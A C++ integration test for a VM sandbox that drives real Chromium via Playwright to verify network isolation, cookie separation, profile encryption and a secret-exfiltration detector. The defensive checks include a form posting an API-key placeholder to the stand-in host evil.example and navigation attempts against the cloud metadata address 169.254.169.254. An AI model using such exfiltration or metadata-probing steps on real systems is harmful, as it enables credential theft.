// Issue #18's proof on the REAL browser image (Debian's Chromium, image::testing::
// SharedBrowserTestImage()) with the real `cloister` binary under TCG: one workspace boot and five
// browser VM boots (two with the profile on tmpfs, three with --keep-profile). The only suite test that boots the real Chromium (it absorbed the checks of
// guest/browser_vm_test.cc: DevTools on loopback only, the profile tmpfs's mount flags).
//   - in the workspace guest, npm installs the pinned playwright-core (scripts/install-deps.sh
//     npm_pins, from the npm tarball cache) through the workspace's proxy from a fake registry
//     (proxy/npm_fake.h) under a made-up name the resolve override maps to 127.0.0.1;
//   - a Node script with playwright-core `chromium.connectOverCDP('http://127.0.0.1:9222')` loads
//     an HTTPS page from a local fake (test CA, mapped by the proxy's resolve override), reads its
//     title, takes a screenshot (a PNG of plausible size); the trace shows the request with
//     "source":"browser";
//   - from the same page, /proc/mounts and /proc/net/tcp{,6} of the browser VM (file: URLs): the
//     profile is a tmpfs mounted nosuid,nodev,noexec; DevTools listens on 127.0.0.1 only;
//   - navigating to the host (10.0.2.2, QEMU user net's host alias, at a port a host loopback
//     listener holds) and to 169.254.169.254 fails, and the host listener sees no connection;
//   - `browser stop`: its directory is gone and its QEMU too; the second start has no cookie of
//     the first;
//   - `--keep-profile`: the profile is the encrypted disk's ext4 (nosuid,nodev,noexec); a cookie
//     survives stop/start; <workspace>/browser-profile.qcow2 holds neither the cookie's value nor
//     the page's text; `browser forget` deletes disk and key; the next kept profile has no cookie;
//   - a placeholder typed into a page form and submitted to a foreign host trips the detector:
//     the fake never receives it, the workspace is marked compromised, its browser VM is gone.
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <optional>

#include <nlohmann/json.hpp>

#include "base/strings.h"
#include "browser/profile_disk.h"
#include "image/npm_tarball.h"
#include "image/testing.h"
#include "proxy/ca.h"
#include "proxy/fake_upstream.h"
#include "proxy/npm_fake.h"
#include "store/layout.h"
#include "supervisor/testing.h"

namespace cloister::vm {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using Clock = std::chrono::steady_clock;

// scripts/install-deps.sh npm_pins: the last playwright-core whose engines accept Debian 12's
// Node 18 (1.62 on require Node >= 20). Pure JS: it downloads no browser.
const char kPlaywright[] = "playwright-core@1.61.1";

const std::string kReal =
    "sk-ant-api03-REALxKEYxBROWSERxREALxCHROMIUMx0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJK-_AA";
const char kCookie[] = "first-visit-c00k1e-5e55";

// Put in the browser VM at /usr/local/bin/chromium (CLOISTER_BROWSER_FILES; the agent's browser
// role runs `chromium` from PATH, /usr/local/bin first): copies the VM's state where Chromium's
// file: loader can read it (it reads /proc files as empty: they have no size), then execs
// Debian's chromium with the agent's argv. The listening sockets and the processes' users are
// copied once DevTools listens.
const char kProbe[] = R"SH(#!/bin/sh
out=/tmp/cloister-probe
mkdir -p "$out"
cat /proc/mounts > "$out/mounts.txt"
(
  i=0
  while [ $i -lt 600 ] && ! grep -q ':2406 00000000:0000 0A' /proc/net/tcp; do sleep 0.5; i=$((i+1)); done
  sleep 3
  cat /proc/net/tcp > "$out/tcp.txt"; cat /proc/net/tcp6 > "$out/tcp6.txt"
  for s in /proc/[0-9]*/status; do
    awk '/^Name:/ {n = $2} /^Uid:/ {u = $2 "," $3 "," $4 "," $5} END {if (n ~ /^chrom/) print "USER " n " " u}' "$s"
  done > "$out/users.txt"
) </dev/null >/dev/null 2>&1 &
exec /usr/bin/chromium "$@"
)SH";

// Run in the workspace guest as dev: node ~/pw.js MODE ARG -> one line "RESULT {json}".
// Its "ms" says where a run's guest time goes (Node's own start, loading playwright-core, the CDP
// connection, the whole run): figures for the test's cost, asserted on by nothing.
const char kDriver[] = R"JS(
const t0 = Date.now();
const ms = {node_start: Math.round(process.uptime() * 1000)};
const { chromium } = require(process.env.HOME + '/pw/node_modules/playwright-core');
ms.require = Date.now() - t0;
const fs = require('fs');
const mode = process.argv[2], arg = process.argv[3] || '';
const out = {ms};
(async () => {
  const browser = await chromium.connectOverCDP('http://127.0.0.1:9222', {timeout: 240000});
  ms.connect = Date.now() - t0 - ms.require;
  out.version = browser.version();
  const ctx = browser.contexts()[0];
  const page = await ctx.newPage();
  page.setDefaultTimeout(120000);
  const go = async (url, timeout) => {
    try {
      const r = await page.goto(url, {timeout: timeout || 120000});
      return {status: r ? r.status() : 0};
    } catch (e) { return {error: String(e.message).split('\n')[0]}; }
  };
  out.cookies_before = (await ctx.cookies('https://shop.example')).map(c => c.name + '=' + c.value);
  // Printed at once: a mode that trips the detector (submit) never prints its RESULT.
  console.log('BEFORE ' + JSON.stringify(out.cookies_before));
  if (mode === 'page') {
    out.nav = await go('https://shop.example/page');
    out.title = await page.title();
    out.text = await page.innerText('body');
    const shot = process.env.HOME + '/shot.png';
    await page.screenshot({path: shot});
    const png = fs.readFileSync(shot);
    out.png_magic = png.slice(0, 8).toString('hex');
    out.png_size = png.length;
    out.png_w = png.readUInt32BE(16);
    out.png_h = png.readUInt32BE(20);
    out.cookies = (await ctx.cookies('https://shop.example')).map(c => c.name + '=' + c.value);
    out.files = {};
    for (const f of ['mounts.txt', 'tcp.txt', 'tcp6.txt', 'users.txt', 'chrome://sandbox']) {
      const url = f.includes(':') ? f : 'file:///tmp/cloister-probe/' + f;
      const r = await go(url, 60000);
      out.files[f] = r.error ? 'ERROR ' + r.error : await page.innerText('body');
    }
    // Then addresses the browser VM must not reach (ARG: space-separated URLs).
    out.refused = {};
    for (const u of arg.split(' ')) out.refused[u] = await go(u, 60000);
  } else if (mode === 'keep') {
    // The kept profile: load the page (its cookie). Nothing waits for Chromium's cookie store to
    // commit on its own (every 30 s): `browser stop` must flush it (Chromium's orderly exit on
    // SIGTERM, then the guest's sync), and the next start's check proves that it did.
    out.nav = await go('https://shop.example/page');
    out.title = await page.title();
    out.cookies = (await ctx.cookies('https://shop.example')).map(c => c.name + '=' + c.value);
    const r = await go('file:///tmp/cloister-probe/mounts.txt', 60000);
    out.mounts = r.error ? 'ERROR ' + r.error : await page.innerText('body');
  } else if (mode === 'second') {
    out.nav = await go('https://shop.example/form');
  } else if (mode === 'submit') {
    // The detector pauses the workspace (this process too) when the placeholder leaves: no
    // RESULT is expected once the form is sent.
    out.nav = await go('https://shop.example/form');
    await page.fill('input[name=key]', arg);
    try {
      const [r] = await Promise.all([page.waitForNavigation({timeout: 120000}),
                                     page.click('button[type=submit]')]);
      out.submit = r ? {status: r.status(), text: await page.innerText('body')} : {status: 0};
    } catch (e) { out.submit = {error: String(e.message).split('\n')[0]}; }
  }
  ms.run = Date.now() - t0;
  console.log('RESULT ' + JSON.stringify(out));
  process.exit(0);
})().catch((e) => { console.log('FATAL ' + e.stack); process.exit(1); });
)JS";

// A host loopback listener nobody may reach from a guest: connections queue in its backlog (it
// never accepts until Pending() looks).
class HostListener {
 public:
  HostListener() {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof a;
    if (fd_ < 0 || bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 ||
        listen(fd_, 16) != 0 || getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len) != 0) {
      return;
    }
    port_ = ntohs(a.sin_port);
  }
  ~HostListener() {
    if (fd_ >= 0) close(fd_);
  }
  int port() const { return port_; }
  // Connections that arrived (accepted and closed now).
  int Pending() {
    int n = 0;
    for (int c; (c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC)) >= 0; ++n) close(c);
    return n;
  }

 private:
  int fd_ = -1;
  int port_ = 0;
};

class BrowserRealVmTest : public testing::CliVmTest {
 protected:
  std::vector<std::string> BrowserDirs() {
    std::vector<std::string> out;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(root_ + "/tmp", ec)) {
      if (e.path().filename().string().rfind("browser-", 0) == 0) out.push_back(e.path().string());
    }
    return out;
  }
  std::vector<json> BrowserTrace() {
    std::vector<json> out;
    std::ifstream f(store_->Paths("ws").trace_log);
    std::string line;
    while (std::getline(f, line)) {
      json j = json::parse(line, nullptr, false);
      if (j.is_object() && j.value("source", "") == "browser") out.push_back(j);
    }
    return out;
  }
  // The supervisor log's browser lines (how each stop flushed a kept profile), for a failure.
  std::string BrowserLogLines() {
    std::string out;
    for (const std::string& l : Split(Cloister({"logs", "ws"}).out, '\n')) {
      if (l.find("browser:") != std::string::npos) out += l + "\n";
    }
    return out;
  }
  RunOutput StartBrowser(const std::string& image, bool keep_profile = false) {
    std::vector<std::string> args{"browser", "ws",     "start", "--image", image, "--memory",
                                  "1536",    "--cpus", "2",     "--json"};
    if (keep_profile) args.push_back("--keep-profile");
    return Cloister(args);
  }
  // Runs the Playwright driver in the workspace guest; its RESULT object (null on failure, the
  // output printed).
  json Drive(const std::string& mode, const std::string& arg = "") {
    int code = -1;
    auto start = Clock::now();
    std::string out = Exec("ws", "cd ~ && node pw.js \"$0\" \"$1\" 2>&1", &code, "dev", {mode, arg});
    std::cerr << "[driver " << mode << "] exit " << code << " after "
              << std::chrono::duration<double>(Clock::now() - start).count()
              << " s: " << out.substr(0, 4000) << "\n";
    auto line_after = [&](const std::string& tag) -> std::optional<std::string> {
      size_t at = out.find(tag);
      if (at == std::string::npos) return std::nullopt;
      std::string line = out.substr(at + tag.size());
      return line.substr(0, line.find('\n'));
    };
    if (auto result = line_after("RESULT ")) return json::parse(*result, nullptr, false);
    // A run cut short (the detector paused the workspace): what it printed before that.
    if (auto before = line_after("BEFORE ")) {
      json j = json::parse(*before, nullptr, false);
      if (j.is_array()) return json{{"cookies_before", j}, {"partial", true}};
    }
    return nullptr;
  }
};

// Lines of /proc/net/tcp{,6} that LISTEN (st 0A) on port 9222 (0x2406): their local addresses.
std::vector<std::string> DevToolsListeners(const std::string& table) {
  std::vector<std::string> out;
  for (const std::string& line : Split(table, '\n')) {
    std::vector<std::string> f;
    for (const std::string& w : Split(Trim(line), ' ')) {
      if (!w.empty()) f.push_back(w);
    }
    if (f.size() > 3 && f[3] == "0A" && f[1].size() > 5 && f[1].substr(f[1].size() - 5) == ":2406") {
      out.push_back(f[1]);
    }
  }
  return out;
}

TEST_F(BrowserRealVmTest, PlaywrightDrivesRealChromiumThroughTheWorkspaceProxy) {
  auto t_test = Clock::now();
  auto phase = [&, last = Clock::now()](const char* what) mutable {
    auto now = Clock::now();
    std::cerr << "[ phase ] " << what << ": " << std::chrono::duration<double>(now - last).count()
              << " s\n";
    last = now;
  };
  auto browser_image = image::testing::SharedBrowserTestImage();
  ASSERT_TRUE(browser_image.ok()) << browser_image.error().ToString();
  const std::string bimage = browser_image->dir + "/disk.raw";
  const std::string cache = image::NpmCacheDir();
  ASSERT_FALSE(cache.empty() || !fs::is_directory(cache))
      << "no npm tarball cache (scripts/install-deps.sh test makes it; CLOISTER_NPM_CACHE="
      << cache << ")";
  auto registry = proxy::testing::NpmRegistryFake::Load(cache);
  ASSERT_TRUE(registry.ok()) << registry.error().ToString();
  ASSERT_FALSE((*registry)->Packument("playwright-core", "https://registry.npm.test").empty())
      << kPlaywright << " is not in " << cache << " (scripts/install-deps.sh test)";

  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
  ASSERT_TRUE(upstream_ca.ok());
  std::string ca_file = root_ + "/upstream-ca.pem";
  std::ofstream(ca_file) << (*upstream_ca)->cert_pem();
  proxy::testing::Handler npm = (*registry)->handler();
  auto fake = proxy::testing::FakeUpstream::Start(
      *upstream_ca, [&](const proxy::testing::SeenRequest& r, proxy::testing::ResponseWriter& w) {
        if (r.sni == "registry.npm.test") return npm(r, w);
        if (r.sni == "shop.example" && StartsWith(r.target, "/page")) {
          w.Send(200,
                 {{"Content-Type", "text/html"},
                  {"Set-Cookie", std::string("session=") + kCookie + "; Max-Age=86400; Secure"}},
                 "<html><head><title>Fake Shop</title></head><body><h1>Fake Shop</h1>"
                 "<p>shop-page-text-9b1d</p></body></html>");
          return;
        }
        if (r.sni == "shop.example" && StartsWith(r.target, "/form")) {
          w.Send(200, {{"Content-Type", "text/html"}},
                 "<html><head><title>Form</title></head><body>"
                 "<form method=post action=\"https://evil.example/submit\">"
                 "<input name=key><button type=submit>send</button></form></body></html>");
          return;
        }
        w.Send(200, {{"Content-Type", "text/plain"}}, "form received\n");
      });
  ASSERT_TRUE(fake.ok());
  const std::string addr = (*fake)->Address();
  HostListener host;
  ASSERT_GT(host.port(), 0);
  json probe_files = json::array({{{"path", "/usr/local/bin/chromium"}, {"content", kProbe},
                                   {"mode", 0755}, {"owner", "root"}}});
  std::string files_path = root_ + "/browser-files.json";
  std::ofstream(files_path) << probe_files.dump();
  env_ = {{"CLOISTER_PROXY_RESOLVE", "registry.npm.test:443=" + addr + ",shop.example:443=" +
                                         addr + ",evil.example:443=" + addr},
          {"CLOISTER_PROXY_UPSTREAM_CA", ca_file},
          {"CLOISTER_GUEST_NPM_REGISTRY", "https://registry.npm.test/"},
          {"CLOISTER_VAULT_KEY_BACKEND", "file"},
          {"CLOISTER_BROWSER_FILES", files_path}};

  auto created = Cloister({"create", "ws", "--image", image_dir() + "/disk.raw", "--memory", "512",
                           "--cpus", "1", "--home-size", "256M"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  ASSERT_EQ(Cloister({"cred", "add", "ws", "anthropic"}, kReal + "\n").exit_code, 0);
  ASSERT_NO_FATAL_FAILURE(Start("ws"));
  phase("workspace create and start");

  // playwright-core from the fake registry, through the workspace's proxy.
  int code = -1;
  std::string installed = Exec(
      "ws",
      ". /etc/profile.d/cloister.sh; mkdir -p ~/pw && cd ~/pw && "
      "npm install --no-audit --no-fund --no-update-notifier \"$0\" 2>&1 && "
      "printf %s \"$1\" > ~/pw.js && node -e \"console.log('PW ' + require('./node_modules/"
      "playwright-core/package.json').version)\"",
      &code, "dev", {kPlaywright, kDriver});
  ASSERT_EQ(code, 0) << installed;
  ASSERT_NE(installed.find("PW 1.61.1"), std::string::npos) << installed;
  phase("npm install playwright-core");

  // 1. The real Chromium, started; Playwright over CDP from the workspace.
  auto t0 = Clock::now();
  auto started = StartBrowser(bimage);
  ASSERT_EQ(started.exit_code, 0) << started.err;
  std::cerr << "[ figures ] browser start (real Chromium) to READY: "
            << std::chrono::duration<double>(Clock::now() - t0).count() << " s\n";
  json b = json::parse(started.out, nullptr, false).value("browser", json::object());
  ASSERT_EQ(b.value("state", ""), "running") << started.out;
  pid_t qemu = b.value("qemu_pid", 0);
  ASSERT_GT(qemu, 0);
  std::string dir = b.value("dir", "");
  EXPECT_EQ(dir.rfind(root_ + "/tmp/browser-ws-", 0), 0u) << dir;
  const std::string host_url = "http://10.0.2.2:" + std::to_string(host.port()) + "/";
  json page = Drive("page", host_url + " https://10.0.2.2/ http://169.254.169.254/latest/"
                                       "meta-data/ https://169.254.169.254/latest/meta-data/");
  phase("browser start + driver page");
  ASSERT_TRUE(page.is_object());
  EXPECT_NE(page.value("version", "").find("156."), std::string::npos) << page.dump();
  EXPECT_EQ(page.value("cookies_before", json::array()).size(), 0u) << page.dump();
  EXPECT_EQ(page["nav"].value("status", 0), 200) << page.dump();
  EXPECT_EQ(page.value("title", ""), "Fake Shop") << page.dump();
  EXPECT_NE(page.value("text", "").find("shop-page-text-9b1d"), std::string::npos);
  EXPECT_EQ(page.value("png_magic", ""), "89504e470d0a1a0a") << page.dump();  // \x89PNG\r\n\x1a\n
  EXPECT_GT(page.value("png_size", 0), 2000) << page.dump();
  EXPECT_LT(page.value("png_size", 0), 8 << 20) << page.dump();
  EXPECT_GE(page.value("png_w", 0), 200);
  EXPECT_GE(page.value("png_h", 0), 200);
  EXPECT_NE(page.value("cookies", json::array()).dump().find(kCookie), std::string::npos)
      << page.dump();
  bool traced = false;
  for (const json& r : BrowserTrace()) {
    traced |= r.value("host", "") == "shop.example" && r.value("path", "") == "/page";
  }
  EXPECT_TRUE(traced) << testing::Slurp(store_->Paths("ws").trace_log);

  // The browser VM's own state, read by Chromium itself (file: URLs).
  const json& files = page["files"];
  std::string mounts = files.value("mounts.txt", "");
  EXPECT_NE(mounts.find("tmpfs /var/lib/cloister-browser tmpfs rw,nosuid,nodev,noexec"),
            std::string::npos)
      << mounts;
  std::vector<std::string> v4 = DevToolsListeners(files.value("tcp.txt", ""));
  std::vector<std::string> v6 = DevToolsListeners(files.value("tcp6.txt", ""));
  EXPECT_EQ(v4, std::vector<std::string>{"0100007F:2406"}) << files.dump();  // 127.0.0.1:9222 only
  EXPECT_TRUE(v6.empty()) << files.dump();
  // Every Chromium process runs as the user (real, effective, saved, filesystem uid), never root.
  size_t chromium_processes = 0;
  for (const std::string& line : Split(files.value("users.txt", ""), '\n')) {
    if (!StartsWith(Trim(line), "USER ")) continue;
    ++chromium_processes;
    for (const std::string& uid : Split(Split(Trim(line), ' ').back(), ',')) {
      EXPECT_NE(uid, "0") << line;
    }
  }
  EXPECT_GE(chromium_processes, 2u) << files.dump();
  // Chromium's own sandbox report: the namespace (user, PID, network) and seccomp-BPF layers.
  std::string sandbox = files.value("chrome://sandbox", "");
  EXPECT_NE(sandbox.find("You are adequately sandboxed."), std::string::npos) << sandbox;

  // Neither the host nor cloud metadata (the same driver run, after the probe files).
  ASSERT_EQ(page["refused"].size(), 4u) << page.dump();
  for (const auto& item : page["refused"].items()) {
    EXPECT_NE(item.value().value("status", 0), 200) << item.key() << ": " << item.value().dump();
  }
  EXPECT_EQ(host.Pending(), 0) << "the browser VM reached a host loopback listener";
  for (const json& r : BrowserTrace()) {
    std::string h = r.value("host", "");
    if (h == "169.254.169.254" || h == "10.0.2.2") {
      EXPECT_NE(r.value("status", 0), 200) << r.dump();
    }
  }

  // 2. Stop: its directory and its QEMU are gone; the second start has no cookie of the first.
  auto stopped = Cloister({"browser", "ws", "stop"});
  ASSERT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_FALSE(fs::exists(dir));
  EXPECT_TRUE(BrowserDirs().empty());
  EXPECT_FALSE(fs::exists("/proc/" + std::to_string(qemu)));
  auto again = StartBrowser(bimage);
  ASSERT_EQ(again.exit_code, 0) << again.err;
  std::string dir2 = json::parse(again.out, nullptr, false)["browser"].value("dir", "");
  EXPECT_NE(dir2, dir);
  phase("browser stop + second start");

  // The second session sees no cookie of the first, and sends none.
  json second = Drive("second");
  ASSERT_TRUE(second.is_object());
  EXPECT_EQ(second.value("cookies_before", json::array()).size(), 0u)
      << "a cookie outlived the first browser VM: " << second.dump();
  EXPECT_EQ(second["nav"].value("status", 0), 200) << second.dump();
  for (const auto& r : (*fake)->requests()) {
    if (r.sni == "shop.example" && StartsWith(r.target, "/form")) {
      EXPECT_EQ(r.Header("cookie").find(kCookie), std::string::npos)
          << "the second session sent the first's cookie";
    }
  }
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  phase("driver second + stop");

  // 3. --keep-profile: the profile on the workspace's encrypted disk; a cookie survives stop and
  // start; the disk file on the host holds neither the cookie's value nor the page's text;
  // `browser forget` deletes disk and key, and the next kept profile has no cookie.
  const std::string disk = store_->Paths("ws").dir + "/browser-profile.qcow2";
  const browser::ProfileLocation loc{root_ + "/" + std::string(layout::kKeysDir),
                                     store_->Paths("ws").dir, "ws"};
  auto kept1 = StartBrowser(bimage, true);
  ASSERT_EQ(kept1.exit_code, 0) << kept1.err;
  EXPECT_TRUE(json::parse(kept1.out, nullptr, false)["browser"].value("keep_profile", false))
      << kept1.out;
  EXPECT_TRUE(fs::exists(disk)) << disk;
  json keep = Drive("keep");
  ASSERT_TRUE(keep.is_object());
  EXPECT_EQ(keep.value("cookies_before", json::array()).size(), 0u) << keep.dump();
  EXPECT_EQ(keep.value("title", ""), "Fake Shop") << keep.dump();
  EXPECT_NE(keep.value("cookies", json::array()).dump().find(kCookie), std::string::npos)
      << keep.dump();
  EXPECT_NE(keep.value("mounts", "").find(" /var/lib/cloister-browser ext4 rw,nosuid,nodev,noexec"),
            std::string::npos)
      << keep.value("mounts", "");
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  auto kept2 = StartBrowser(bimage, true);
  ASSERT_EQ(kept2.exit_code, 0) << kept2.err;
  json survived = Drive("second");
  ASSERT_TRUE(survived.is_object());
  EXPECT_NE(survived.value("cookies_before", json::array()).dump().find(kCookie), std::string::npos)
      << "the kept profile lost its cookie: " << survived.dump() << "\n"
      << BrowserLogLines();
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  EXPECT_EQ(testing::CountInFile(disk, kCookie), 0u) << "the cookie's value in plaintext on " << disk;
  EXPECT_EQ(testing::CountInFile(disk, "shop-page-text-9b1d"), 0u) << "page text on " << disk;
  EXPECT_GT(fs::file_size(disk), 1u << 20) << "the disk holds the profile";
  phase("kept profile: two starts");
  auto forget = Cloister({"browser", "ws", "forget", "-f"});
  EXPECT_EQ(forget.exit_code, 0) << forget.err;
  EXPECT_FALSE(fs::exists(disk));
  auto exists = browser::ProfileExists(loc);
  ASSERT_TRUE(exists.ok()) << exists.error().ToString();
  EXPECT_FALSE(*exists) << "the profile's key outlived `browser forget`";
  auto kept3 = StartBrowser(bimage, true);
  ASSERT_EQ(kept3.exit_code, 0) << kept3.err;
  phase("forget + third kept start");

  // 4. A placeholder typed into a form and submitted to a foreign host trips the detector.
  std::string placeholder =
      Trim(Exec("ws", ". /etc/profile.d/cloister.sh; printf %s \"$ANTHROPIC_API_KEY\""));
  ASSERT_FALSE(placeholder.empty());
  ASSERT_EQ(placeholder.find(kReal), std::string::npos);
  // One driver run: the cookies it finds first (none: forgotten), then the form.
  json submit = Drive("submit", placeholder);
  phase("driver after forget + submit");
  ASSERT_TRUE(submit.is_object()) << "the driver printed nothing before the submit";
  ASSERT_TRUE(submit.contains("cookies_before")) << submit.dump();
  EXPECT_EQ(submit["cookies_before"].size(), 0u)
      << "the cookie outlived `browser forget`: " << submit.dump();
  EXPECT_EQ(submit.dump().find("form received"), std::string::npos) << submit.dump();
  EXPECT_TRUE(testing::WaitFor([&] {
    auto d = Cloister({"describe", "ws", "--json"});
    json j = json::parse(d.out, nullptr, false);
    return j.is_object() && j.value("compromised", false);
  }, std::chrono::seconds(60)));
  EXPECT_TRUE(testing::WaitFor([&] { return BrowserDirs().empty(); }, std::chrono::seconds(60)));
  for (const auto& r : (*fake)->requests()) {
    EXPECT_EQ(r.body.find(placeholder), std::string::npos) << "the placeholder reached " << r.sni;
    EXPECT_EQ(r.body.find(kReal), std::string::npos) << "the real key reached " << r.sni;
  }
  auto stop = Cloister({"stop", "ws", "--force"});
  EXPECT_EQ(stop.exit_code, 0) << stop.err;
  EXPECT_TRUE(BrowserDirs().empty());
  std::cerr << "[ figures ] whole test: "
            << std::chrono::duration<double>(Clock::now() - t_test).count() << " s\n";
}

}  // namespace
}  // namespace cloister::vm
